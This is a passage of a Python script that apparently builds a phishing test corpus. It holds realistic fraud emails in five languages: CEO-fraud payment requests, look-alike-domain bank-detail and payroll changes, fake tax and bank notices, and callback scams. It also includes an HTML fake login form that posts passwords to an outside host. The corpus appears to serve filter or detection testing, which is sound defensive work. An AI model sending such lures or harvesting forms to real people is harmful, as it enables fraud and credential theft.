IBAN: %s
Causale: caparra confirmatoria - rif. EG/TO-2026

Ti chiedo massima riservatezza: non parlarne con Marco né con Francesca fino all'annuncio ufficiale. Fammi sapere appena fatto e mandami la contabile. Sono in riunione tutto il giorno, scrivimi solo via email.

Grazie,
Katharina
""" % F("mule_it"))

# =================================================================== POLISH
add(name="21-pl-fake-ksef-token-wygasniecie", lang="pl", charset="iso-8859-2", cte="quoted-printable",
    desc="Fake KSeF (Polish national e-invoice system) token-expiry notice for the accounting office and its 37 clients; link to ksef-mf-gov.pl asking for Profil Zaufany / qualified-signature login.",
    mailer="bulk", srv=("mailer.ksef-mf-gov.pl", "185.225.69.20"),
    frm=("Krajowy System e-Faktur (KSeF)", "powiadomienia@ksef-mf-gov.pl"), to=[S["wisniewski"]],
    subject="KSeF: wygaśnięcie tokenu autoryzacyjnego - wymagana ponowna weryfikacja do 28.11.2026",
    date="2026-11-18 07:30:12",
    html=tpl.notice("Wygaśnięcie tokenu KSeF", [
        "Szanowni Państwo,",
        "informujemy, że token uwierzytelniający wygenerowany dla NIP %s (Example Group Polska Sp. z o.o.) oraz tokeny dla 37 podmiotów, dla których posiadają Państwo uprawnienia biura rachunkowego, wygasają 28.11.2026 w związku z migracją do KSeF 2.0." % NIP_EG,
        "Bez ponownej weryfikacji wystawianie i odbiór faktur ustrukturyzowanych nie będą możliwe, a faktury wystawione poza KSeF podlegają sankcjom."],
        "Zweryfikuj uprawnienia", "https://ksef-mf-gov.pl/web/autoryzacja?nip=%s" % NIP_EG,
        ["Logowanie profilem zaufanym, e-dowodem lub kwalifikowanym podpisem elektronicznym.",
         "Z poważaniem\nMinisterstwo Finansów – Zespół KSeF"],
        footer="Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.", color="#b3001b", brand="KSeF", lang="pl"),
    text_from_html=True)

_pl_emp = [("Marek Lewandowski", iban("PL", pl_bban("2490005", "0000453017726411"))),
           ("Krzysztof Dąbrowski", iban("PL", pl_bban("2490005", "0000453017726429")))]
add(name="22-pl-client-payroll-accounts-lookalike", lang="pl", charset="windows-1250", cte="quoted-printable", lang_tag="pl-PL",
    desc="Payroll diversion: Partner Logistik director impersonated from look-alike partner-logistlk.pl ('l' for 'i'), two employees' salary accounts changed, confirmation only by e-mail.",
    mailer="thunderbird", srv=("mail.partner-logistlk.pl", "185.221.196.52"), client_ip="79.110.62.18",
    frm=("Tomasz Zieliński", "t.zielinski@partner-logistlk.pl"), to=[S["kowalczyk"]],
    subject="Zmiana rachunków do wypłat - listopad", date="2026-11-20 17:14:26",
    text="""Dzień dobry Pani Agnieszko,

w związku z przejściem części naszych kierowców do nowego banku proszę o zmianę numerów rachunków do przelewu wynagrodzeń od listy płac za listopad dla niżej wymienionych pracowników:

1. %s – %s
2. %s – %s

Oświadczenia pracowników prześlę pocztą tradycyjną. Proszę o potwierdzenie wprowadzenia zmian mailowo, bo jestem w trasie w Niemczech i mam ograniczony zasięg w telefonie.

Pozdrawiam
Tomasz Zieliński
Dyrektor ds. Administracji
Partner Logistik Sp. z o.o.
ul. Składowa 8, 61-897 Poznań
""" % (_pl_emp[0][0], fmt_iban(_pl_emp[0][1]), _pl_emp[1][0], fmt_iban(_pl_emp[1][1])))

add(name="23-pl-fake-e-urzad-niedoplata", lang="pl", charset="utf-8", cte="base64",
    desc="Fake e-Urząd Skarbowy 'niedopłata 2,37 zł' micro-payment lure (HTML only) via abused ESP; link to a fake payment gateway harvesting card data.",
    mailer="sendgrid", frm=("e-Urząd Skarbowy", "powiadomienia@e-urzad-skarbowy-info.pl"), to=[S["nowak"]],
    subject="Niedopłata podatku - wezwanie do uregulowania 2,37 zł", date="2026-11-06 18:40:31",
    html=tpl.notice("Wezwanie do zapłaty", [
        "Szanowny Podatniku,",
        "w wyniku weryfikacji zeznania PIT-36 za 2025 r. stwierdzono niedopłatę podatku w wysokości 2,37 zł wraz z odsetkami za zwłokę.",
        "Należność prosimy uregulować do 19.11.2026 za pośrednictwem bramki płatniczej e-Urzędu Skarbowego, aby uniknąć wszczęcia postępowania egzekucyjnego i naliczenia kosztów upomnienia (16,00 zł)."],
        "Zapłać 2,37 zł", "https://e-urzad-skarbowy-info.pl/platnosc/?id=PIT36-2025-99182",
        ["Krajowa Administracja Skarbowa"], footer="Wiadomość wysłana automatycznie.", color="#003b7a",
        brand="e-Urząd Skarbowy", lang="pl"))

add(name="24-pl-compromised-client-sharepoint-lure", lang="pl", charset="utf-8", cte="quoted-printable", lang_tag="pl-PL",
    desc="Compromised real client mailbox (ksiegowosc@partner-logistik.pl via its own M365): 'October cost invoices too big to attach', link to a Cloudflare workers.dev fake OneDrive login.",
    mailer="outlook", frm=("Księgowość Partner Logistik", "ksiegowosc@partner-logistik.pl"), to=[S["wisniewski"]],
    subject="Faktury kosztowe 10/2026 - udostępnione dokumenty", date="2026-11-10 11:02:47",
    text="""Dzień dobry,

udostępniamy komplet faktur kosztowych i wyciągów bankowych za październik (47 plików, 38 MB – za duże na załącznik). Dokumenty są dostępne pod poniższym linkiem do 20.11:

https://partner-logistik-docs.sharepoint-file.workers.dev/Faktury_10_2026?e=4Kd9Qx

Przy otwieraniu prosimy zalogować się adresem służbowym.

Pozdrawiam
Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Składowa 8, 61-897 Poznań
tel. +48 61 852 44 10
""", html="auto")

add(name="25-pl-fake-bank-aml-update", lang="pl", charset="iso-8859-2", cte="base64",
    desc="Fake business-banking notice from look-alike bankmazowiecki-firmy.pl: access restricted pending AML data update; link to credential/SMS-code phishing page.",
    mailer="phpmailer", srv=("mail.bankmazowiecki-firmy.pl", "176.113.115.92"),
    frm=("Bank Mazowiecki - Bankowość Firmowa", "bezpieczenstwo@bankmazowiecki-firmy.pl"), to=[S["nowak"]],
    subject="Ograniczenie dostępu do systemu MazowieckiBiznes - wymagana aktualizacja danych (AML)", date="2026-11-30 06:48:19",
    html=tpl.notice("Wymagana aktualizacja danych", [
        "Szanowni Państwo,",
        "zgodnie z ustawą o przeciwdziałaniu praniu pieniędzy oraz finansowaniu terroryzmu bank ma obowiązek okresowej aktualizacji danych klientów firmowych.",
        "Ponieważ dane firmy Example Group Polska Sp. z o.o. nie zostały zaktualizowane, dostęp do systemu MazowieckiBiznes zostanie ograniczony 02.12.2026 (brak możliwości realizacji przelewów, w tym wynagrodzeń i płatności do ZUS/US)."],
        "Aktualizuj dane", "https://bankmazowiecki-firmy.pl/aml/aktualizacja?klient=EG-PL-4471",
        ["Aktualizacja zajmuje ok. 3 minuty i wymaga potwierdzenia kodem SMS.", "Z poważaniem\nBank Mazowiecki S.A."],
        footer="Bank Mazowiecki S.A., ul. Marszałkowska 140, 00-061 Warszawa", color="#0a5e2a", brand="Bank Mazowiecki", lang="pl"),
    text_from_html=True)

# =================================================================== SPANISH
add(name="26-es-fake-dehu-requerimiento", lang="es", charset="iso-8859-1", cte="quoted-printable",
    desc="Fake AEAT/DEHú notice ('requerimiento modelo 303', 10-day deadline) from dehu-aeat-notifica.es; link to a Cl@ve/certificate credential page.",
    mailer="bulk", srv=("mail.dehu-aeat-notifica.es", "45.145.167.30"),
    frm=("Agencia Tributaria - Notificaciones", "notificaciones@dehu-aeat-notifica.es"), to=[S["fernandez"]],
    subject="Notificación pendiente: Requerimiento de información - Modelo 303 (3T 2026)", date="2026-11-12 08:22:10",
    html=tpl.notice("Tiene una notificación pendiente", [
        "Estimado/a contribuyente o representante:",
        "Se ha puesto a su disposición en la Dirección Electrónica Habilitada única (DEHú) una notificación de la Agencia Estatal de Administración Tributaria.",
        "Procedimiento: Requerimiento de información – Modelo 303, tercer trimestre 2026\nReferencia: 2026GRC47718320Q",
        "Dispone de 10 días naturales para acceder al contenido. Transcurrido dicho plazo la notificación se entenderá practicada y continuará el procedimiento."],
        "Acceder a la notificación", "https://dehu-aeat-notifica.es/dehu/acceso?ref=2026GRC47718320Q",
        ["Acceso con Cl@ve o certificado electrónico.", "Agencia Tributaria"],
        footer="Este mensaje se ha generado automáticamente. No responda a este correo.", color="#8a1c1c",
        brand="Agencia Tributaria", lang="es"), text_from_html=True)

add(name="27-es-ceo-fraud-whatsapp-pivot", lang="es", charset="windows-1252", cte="quoted-printable", lang_tag="es-ES",
    desc="CEO fraud first step: managing partner's name on look-alike domain examplegroup.eu.com asks the Madrid office head for his mobile number to continue 'confidential operation' on WhatsApp.",
    mailer="outlook", frm=("Katharina Brandt", "katharina.brandt@examplegroup.eu.com"), to=[S["martinez"]],
    subject="Operación confidencial", date="2026-11-25 08:47:33",
    text="""Hola Javier,

¿tienes un momento hoy? Necesito tu ayuda con un asunto confidencial relacionado con una operación que estamos cerrando en España y que todavía no puede conocer el resto del equipo.

Por favor, envíame tu número de móvil personal por este correo; te escribo enseguida por WhatsApp, ya que estoy en reuniones y no puedo atender llamadas.

Gracias y un saludo,
Katharina Brandt
Managing Partner
""", html="auto")

_iber_pdf = make_pdf([(15, "Maquinaria Hidraulica del Centro S.L."), "CIF B-45917732 - Pol. Ind. Santa Maria de Benquerencia, Toledo", "",
                      (13, "FACTURA PROFORMA PF-2026-0318"), "Cliente: Construcciones Iberia S.L.", "",
                      "1 x Miniexcavadora 8 t con martillo hidraulico       58.500,00 EUR",
                      "Transporte y puesta en marcha                          5.750,00 EUR",
                      "Total (IVA incluido, operacion intracomunitaria)       64.250,00 EUR", "",
                      "Forma de pago: transferencia previa a la entrega", "IBAN: " + F("mule_es"), "BIC: BCOEESMM"],
                     title="Proforma PF-2026-0318", author="admin", creator="Microsoft Excel", producer="Microsoft Excel",
                     date="D:20261130093000+01'00'")
add(name="28-es-client-escrow-release-lookalike", lang="es", charset="utf-8", cte="quoted-printable",
    desc="Fake client instruction from look-alike construcciones-lberia.es ('l' for 'i'): release 64.250 EUR from escrow to a 'machinery supplier' with proforma PDF pointing to a mule IBAN.",
    mailer="roundcube", srv=("mail.construcciones-lberia.es", "213.232.235.18"), client_ip_inner="127.0.0.1",
    frm=("Rosa Navarro", "administracion@construcciones-lberia.es"), to=[S["ruiz"]], cc=[S["martinez"]],
    subject="Liberación fondos depósito - compra maquinaria (urgente)", date="2026-11-30 10:11:04",
    text="""Buenos días Carmen:

Tal y como habló nuestro gerente, D. Alberto Iglesias, con Javier la semana pasada, necesitamos liberar 64.250,00 € de los fondos que tenéis en depósito para nosotros, para pagar la miniexcavadora que nos entregan el jueves en la obra de Tres Cantos.

El proveedor exige el pago antes de la entrega. Os adjunto la factura proforma con sus datos bancarios; por favor, ordenad la transferencia hoy mismo y enviadme el justificante.

La orden firmada por el Sr. Iglesias os la hago llegar en cuanto vuelva de la obra.

Muchas gracias,

Rosa Navarro
Administración
Construcciones Iberia S.L.
""", attachments=[("Proforma_PF-2026-0318.pdf", PDF_T, _iber_pdf)])

add(name="29-es-fake-sistema-red-certificado", lang="es", charset="iso-8859-1", cte="base64",
    desc="Fake Seguridad Social / Sistema RED notice (HTML only): payroll submission authorisation 'expires', link to sistemared-segsocial.es credential and certificate-upload page.",
    mailer="bulk", srv=("smtp.sistemared-segsocial.es", "91.92.246.71"),
    frm=("Seguridad Social - Sistema RED", "avisos@sistemared-segsocial.es"), to=[S["ruiz"]],
    subject="Aviso: caducidad de la autorización RED - renovación obligatoria antes del 30/11/2026", date="2026-11-19 07:35:58",
    html=tpl.notice("Renovación de la autorización RED", [
        "Estimado/a autorizado/a:",
        "Le comunicamos que la autorización del Sistema RED asociada a su certificado electrónico caduca el 30/11/2026.",
        "Si no la renueva, no podrá presentar las liquidaciones de cuotas (SILTRA) ni las altas y bajas de sus empresas clientes, lo que puede dar lugar a recargos por presentación fuera de plazo."],
        "Renovar autorización", "https://sistemared-segsocial.es/renovacion?aut=RED-28-1173392",
        ["Tesorería General de la Seguridad Social"], footer="Mensaje automático. No responda a esta dirección.",
        color="#24467a", brand="Seguridad Social", lang="es"))

_aeat_html = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Requerimiento AEAT - Documento protegido</title></head>
<body style="font-family:Segoe UI,Arial,sans-serif;background:#f4f4f4">
<div style="max-width:400px;margin:70px auto;background:#fff;padding:30px;box-shadow:0 1px 4px #aaa">
<p><b>Documento protegido</b></p>
<p>Requerimiento_AEAT_303_3T2026.pdf (1 página)</p>
<p>Para ver el documento, confirme la cuenta de correo del destinatario.</p>
<form method="post" action="https://doc-viewer-secure.click/aeat/r.php">
<input name="u" value="lucia.fernandez@example.com" style="width:100%"><br><br>
<input name="p" type="password" placeholder="Contraseña" style="width:100%"><br><br>
<button type="submit">Ver documento</button>
</form></div></body></html>
"""
add(name="30-es-compromised-gestoria-html-attachment", lang="es", charset="utf-8", cte="base64",
    desc="Compromised real-looking gestoría webmail sends an 'AEAT requerimiento' with an HTML attachment that renders a fake document-viewer login (credential theft).",
    mailer="roundcube", srv=("mail.gestoria-almansa.es", "82.223.64.119"),
    frm=("Gestoría Almansa", "info@gestoria-almansa.es"), to=[S["fernandez"]],
    subject="Requerimiento AEAT modelo 303 3T - documentación", date="2026-11-14 13:29:17",
    text="""Hola Lucía,

Te reenvío el requerimiento que nos ha llegado de la AEAT sobre el modelo 303 del tercer trimestre de un cliente común. Échale un vistazo cuando puedas, el plazo vence el día 24.

El documento va protegido, ábrelo con tu correo.

Un saludo,
Pilar Almansa
Gestoría Almansa - Albacete
""", attachments=[("Requerimiento_AEAT_303_3T2026.html", "text/html", _aeat_html.encode("utf-8"))])

# =================================================================== GREEK
add(name="31-el-fake-aade-epistrofi-iban", lang="el", charset="iso-8859-7", cte="quoted-printable",
    desc="Fake ΑΑΔΕ tax-refund notice requiring IBAN 'confirmation' with TAXISnet credentials on myaade-gov.gr.com.",
    mailer="bulk", srv=("mail.myaade-gov.gr.com", "185.208.158.77"),
    frm=("ΑΑΔΕ - Ανεξάρτητη Αρχή Δημοσίων Εσόδων", "epistrofes@myaade-gov.gr.com"), to=[S["georgiou"]],
    subject="Επιστροφή φόρου 2025: εκκρεμεί επιβεβαίωση IBAN (ΑΦΜ ****8841)", date="2026-11-09 09:03:27", tz="+0200",
    html=tpl.notice("Εκκρεμεί επιβεβαίωση IBAN", [
        "Αγαπητέ/ή φορολογούμενε,",
        "μετά την εκκαθάριση της δήλωσης φορολογίας εισοδήματος φορολογικού έτους 2025 δικαιούστε επιστροφή φόρου ύψους 1.284,60 €.",
        "Για την πίστωση του ποσού απαιτείται επιβεβαίωση του λογαριασμού IBAN μέσω των κωδικών TAXISnet έως τις 20/11/2026. Σε αντίθετη περίπτωση η επιστροφή θα συμψηφιστεί ή θα ακυρωθεί."],
        "Επιβεβαίωση IBAN", "https://myaade-gov.gr.com/epistrofi/iban?afm=8841",
        ["Με εκτίμηση,\nΑνεξάρτητη Αρχή Δημοσίων Εσόδων"], footer="Αυτό το μήνυμα στάλθηκε αυτόματα.", color="#003476",
        brand="ΑΑΔΕ", lang="el"), text_from_html=True)

add(name="32-el-client-escrow-bank-change-lookalike", lang="el", charset="windows-1253", cte="base64", lang_tag="el-GR",
    desc="Client impersonation from look-alike kalypso-hotel.gr: 'bank merger froze our account', asks to release 41.300 EUR held for the VAT payment to a new account.",
    mailer="thunderbird", srv=("mail.kalypso-hotel.gr", "194.180.48.61"), client_ip="5.181.86.77",
    frm=("Μαρία Βλάχου", "logistirio@kalypso-hotel.gr"), to=[S["georgiou"]],
    subject="Αλλαγή τραπεζικού λογαριασμού - απόδοση υπολοίπου", date="2026-11-24 12:36:45", tz="+0200",
    text="""Καλημέρα κυρία Γεωργίου,

λόγω της συγχώνευσης της τράπεζάς μας ο εταιρικός λογαριασμός μας έχει δεσμευτεί προσωρινά και δεν μπορούμε να πληρώσουμε τον ΦΠΑ και τους προμηθευτές από εκεί.

Σας παρακαλώ το υπόλοιπο των 41.300,00 € που κρατάτε για λογαριασμό μας για την πληρωμή του ΦΠΑ να μεταφερθεί σήμερα στον νέο μας λογαριασμό, ώστε να κάνουμε εμείς απευθείας τις πληρωμές:

Δικαιούχος: KALYPSO HOTELS A.E.
IBAN: %s

Ο κ. Μανωλάκης (Διευθύνων Σύμβουλος) έχει εγκρίνει την κίνηση. Ενημερώστε με με email όταν γίνει η μεταφορά, γιατί σήμερα είμαι σε σεμινάριο και δεν απαντώ στο τηλέφωνο.

Ευχαριστώ πολύ,
Μαρία Βλάχου
Λογιστήριο
Kalypso Hotels Α.Ε.
""" % F("mule_cy"))

add(name="33-el-fake-ergani-prostimo", lang="el", charset="utf-8", cte="base64",
    desc="Fake ΕΡΓΑΝΗ ΙΙ / Ministry of Labour notice of a digital work-card fine with 5-day objection window; link to a TAXISnet credential page on a non-gov domain.",
    mailer="sendgrid", frm=("ΕΡΓΑΝΗ ΙΙ - Υπουργείο Εργασίας", "noreply@ergani-ypergasias.gov-gr.info"), to=[S["konstantinou"]],
    subject="Πρόστιμο Ψηφιακής Κάρτας Εργασίας - εκκρεμείς δηλώσεις (αρ. πρωτ. 71442/2026)", date="2026-11-17 10:15:02", tz="+0200",
    html=tpl.notice("Ειδοποίηση επιβολής προστίμου", [
        "Αξιότιμε χρήστη,",
        "κατά τον ηλεκτρονικό έλεγχο της Επιθεώρησης Εργασίας διαπιστώθηκαν εκκρεμείς δηλώσεις Ψηφιακής Κάρτας Εργασίας για εργοδότη που εκπροσωπείτε. Το προβλεπόμενο πρόστιμο ανέρχεται σε 10.500,00 € (3 εργαζόμενοι).",
        "Μπορείτε να υποβάλετε αντιρρήσεις ή να διορθώσετε τις δηλώσεις εντός 5 εργάσιμων ημερών."],
        "Προβολή πράξης", "https://ergani-ypergasias.gov-gr.info/praxi?ar=71442-2026",
        ["Είσοδος με κωδικούς TAXISnet.", "Υπουργείο Εργασίας και Κοινωνικής Ασφάλισης"],
        footer="Μην απαντάτε σε αυτό το μήνυμα.", color="#0d47a1", brand="ΕΡΓΑΝΗ ΙΙ", lang="el"), text_from_html=True)

add(name="34-el-ceo-fraud-outlook-com", lang="el", charset="utf-8", cte="quoted-printable", lang_tag="el-GR",
    desc="CEO fraud: 'Dr. Katharina Brandt' from a consumer outlook.com address ('VPN problems'), urgent confidential 58.900 EUR transfer to a Cyprus law firm.",
    mailer="outlook", o365_region="EURP193", frm=("Dr. Katharina Brandt", "katharina.brandt.eg@outlook.com"), to=[S["papadopoulos"]],
    subject="Εμπιστευτικό", date="2026-11-27 14:05:50", tz="+0100",
    text="""Αγαπητέ Νίκο,

σου γράφω από το προσωπικό μου email γιατί έχω πρόβλημα με το VPN της εταιρείας εδώ στις Βρυξέλλες.

Ολοκληρώνουμε εμπιστευτικά τη συνεργασία με ένα γραφείο στη Λευκωσία και πρέπει σήμερα να καταβληθεί η προκαταβολή στο δικηγορικό γραφείο που χειρίζεται τη συναλλαγή:

Δικαιούχος: Christodoulou & Partners LLC
IBAN: %s
Ποσό: 58.900,00 €

Σε παρακαλώ να μην ενημερώσεις ακόμα κανέναν στην Αθήνα μέχρι την επίσημη ανακοίνωση. Στείλε μου το αποδεικτικό εδώ μόλις γίνει.

Ευχαριστώ,
Katharina
""" % F("mule_cy"), html="auto")

add(name="35-el-fake-oee-licence-renewal", lang="el", charset="iso-8859-7", cte="base64",
    desc="Fake Οικονομικό Επιμελητήριο (accountants' chamber) licence-renewal fee demand (HTML only) from oee-ananeosi.gr with card-payment link.",
    mailer="phpmailer", srv=("mail.oee-ananeosi.gr", "45.88.186.233"),
    frm=("Οικονομικό Επιμελητήριο της Ελλάδας", "melh@oee-ananeosi.gr"), to=[S["georgiou"]],
    subject="Ανανέωση Επαγγελματικής Ταυτότητας Λογιστή-Φοροτεχνικού 2027 - οφειλόμενη συνδρομή", date="2026-12-03 08:44:13", tz="+0200",
    html=tpl.notice("Ανανέωση επαγγελματικής ταυτότητας", [
        "Αγαπητό μέλος,",
        "σας υπενθυμίζουμε ότι για την ανανέωση της Επαγγελματικής Ταυτότητας Λογιστή-Φοροτεχνικού για το 2027 εκκρεμεί η ετήσια συνδρομή ύψους 85,00 €.",
        "Σε περίπτωση μη εξόφλησης έως τις 10/12/2026 η ταυτότητα θα ανασταλεί και δεν θα μπορείτε να υπογράφετε φορολογικές δηλώσεις."],
        "Πληρωμή με κάρτα", "https://oee-ananeosi.gr/pliromi?melos=118824",
        ["Με εκτίμηση,\nΤμήμα Μητρώου Μελών"], footer="Οικονομικό Επιμελητήριο της Ελλάδας", color="#16365c",
        brand="Οικονομικό Επιμελητήριο της Ελλάδας", lang="el"))

# =================================================================== RUSSIAN
add(name="36-ru-fake-fns-trebovanie-zip", lang="ru", charset="koi8-r", cte="base64",
    desc="Fake tax-inspectorate (ИФНС) 'требование о представлении пояснений' (penalty threat) with a ZIP containing a .pdf.lnk shortcut (inert placeholder).",
    mailer="phpmailer", srv=("mail.nalog-rf.org", "94.156.64.201"), ua=None,
    frm=("Межрайонная ИФНС России № 46 по г. Москве", "ifns46@nalog-rf.org"), to=[S["smirnova"]],
    subject="Требование о представлении пояснений № 14-28/47712 от 17.11.2026", date="2026-11-17 10:25:43", tz="+0300",
    text="""Уважаемый налогоплательщик!

В соответствии со статьёй 88 Налогового кодекса Российской Федерации Вам необходимо в течение пяти рабочих дней со дня получения настоящего требования представить пояснения к налоговой декларации по НДС за 3 квартал 2026 года либо внести соответствующие исправления.

Непредставление пояснений в установленный срок влечёт ответственность по статье 129.1 НК РФ и может стать основанием для приостановления операций по счетам.

Текст требования направлен во вложении (архив, так как содержит файл электронной подписи).

Межрайонная ИФНС России № 46 по г. Москве
""", attachments=[("Требование_14-28_47712.zip", ZIP_T,
                   make_zip([("Требование_14-28_47712.pdf.lnk",
                              b"audit29 test corpus: inert placeholder standing in for a malicious Windows shortcut.\r\n")],
                            dt=(2026, 11, 17, 9, 58, 0)))])

_sb, _sacc, _sbank, _skor = RU["mule_ru"]
add(name="37-ru-client-bank-details-change-lookalike", lang="ru", charset="windows-1251", cte="quoted-printable",
    desc="Client impersonation from look-alike sever-td.com: 'new bank details' and request to refund an 'overpayment' of 186 400 руб. to an account at another bank.",
    mailer="thunderbird", srv=("mx.sever-td.com", "185.117.90.45"), client_ip="176.97.114.3", lang_tag="ru",
    frm=("Петрова Елена", "buh@sever-td.com"), to=[S["smirnova"]],
    subject="Изменение банковских реквизитов ООО «ТД Северный»", date="2026-11-21 11:52:08", tz="+0300",
    text="""Ольга, добрый день!

Уведомляем, что с 20.11.2026 расчётный счёт ООО «ТД Северный» в ПАО Сбербанк закрывается. Прошу все платежи в наш адрес направлять по новым реквизитам:

Получатель: ООО «ТД Северный»
ИНН 7802614473 / КПП 780201001
Р/с %s
Банк: %s
БИК %s
К/с %s

Также просим вернуть переплату по договору бухгалтерского обслуживания № 17/БО в сумме 186 400,00 руб. на новый счёт до конца месяца — письмо за подписью генерального директора пришлю позже, он сейчас в командировке.

С уважением,
Елена Петрова
главный бухгалтер
ООО «ТД Северный»
""" % (_sacc, _sbank, _sb, _skor))

add(name="38-ru-fake-edo-document-to-sign", lang="ru", charset="utf-8", cte="base64",
    desc="Fake EDI-operator (Документ-Линк) 'document awaiting signature' notice (HTML only) from doclink-edo.online; link to a fake portal login.",
    mailer="bulk", srv=("smtp.doclink-edo.online", "147.45.47.81"),
    frm=("Документ-Линк ЭДО", "noreply@doclink-edo.online"), to=[S["volkov"]],
    subject="Вам поступил документ на подпись: Акт сверки взаиморасчётов от ООО «ТД Северный»", date="2026-11-28 09:41:19", tz="+0300",
    html=tpl.notice("Новый документ на подпись", [
        "Здравствуйте!",
        "Контрагент ООО «ТД Северный» (ИНН 7802614473) направил вам документ:",
        "Акт сверки взаиморасчётов за период 01.01.2026 – 31.10.2026\nТребуется подпись до: 01.12.2026",
        "Для просмотра и подписания войдите в личный кабинет."],
        "Перейти к документу", "https://doclink-edo.online/lk/docs/inbox?id=8f2c91d0",
        ["С уважением,\nкоманда Документ-Линк"], footer="Оператор ЭДО «Документ-Линк». Письмо сформировано автоматически.",
        color="#e30613", brand="Документ-Линк", lang="ru"))

add(name="39-ru-ceo-fraud-lookalike-examp1egroup", lang="ru", charset="koi8-r", cte="quoted-printable",
    desc="CEO fraud in Russian: managing partner on look-alike examp1egroup.eu (digit 1), confidential urgent 1 480 000 руб. payment to a 'law firm' for restructuring due diligence.",
    mailer="phpmailer", srv=("mail.examp1egroup.eu", "193.233.48.12"), ua="Microsoft Outlook 16.0",
    frm=("Katharina Brandt", "k.brandt@examp1egroup.eu"), to=[S["volkov"]],
    subject="Срочно: оплата юридическому консультанту", date="2026-12-04 12:18:27", tz="+0100",
    text="""Дмитрий, добрый день.

Пишу по-русски, чтобы было быстрее. Мы готовим реструктуризацию российского офиса, и сегодня необходимо оплатить счёт московской юридической фирмы ООО «Правовой Альянс» за проверку (due diligence). Сумма 1 480 000,00 руб., НДС не облагается.

Реквизиты:
ООО «Правовой Альянс», ИНН 7714482716
Р/с %s
%s, БИК %s

Пожалуйста, проведите платёж сегодня до 16:00 по Москве и пришлите мне платёжку. До официального объявления прошу никому в офисе не сообщать — тема очень чувствительная.

Спасибо,
Katharina Brandt
""" % (_sacc, _sbank, _sb))

add(name="40-ru-callback-licence-debit", lang="ru", charset="windows-1251", cte="base64",
    desc="Callback phishing: fake payroll-software 'licence renewal debit of 84 990 руб.' from a yandex.ru account; only phone numbers to 'cancel'.",
    mailer="yandex", frm=("Служба поддержки «Бухгалтерия Онлайн»", "support.buhonline24@yandex.ru"), to=[S["kuznetsova"]],
    subject="Списание 84 990 руб. - продление лицензии «Зарплата и кадры ПРОФ» на 12 мес.", date="2026-11-15 20:07:38", tz="+0300",
    text="""Уважаемый клиент!

Сообщаем, что в соответствии с условиями автопродления с Вашей корпоративной карты 28.11.2026 будет списано 84 990,00 руб. за продление лицензии «Зарплата и кадры ПРОФ» (25 рабочих мест) на 12 месяцев.

Номер заказа: ZK-2026-118374

Если Вы не оформляли продление или хотите отказаться от него, позвоните нам в течение 24 часов:

8 (800) 301-47-62 (бесплатно по России)
+7 (495) 128-39-06

После отмены средства будут возвращены в течение 1 рабочего дня.

С уважением,
Служба поддержки «Бухгалтерия Онлайн»
""", html="auto")
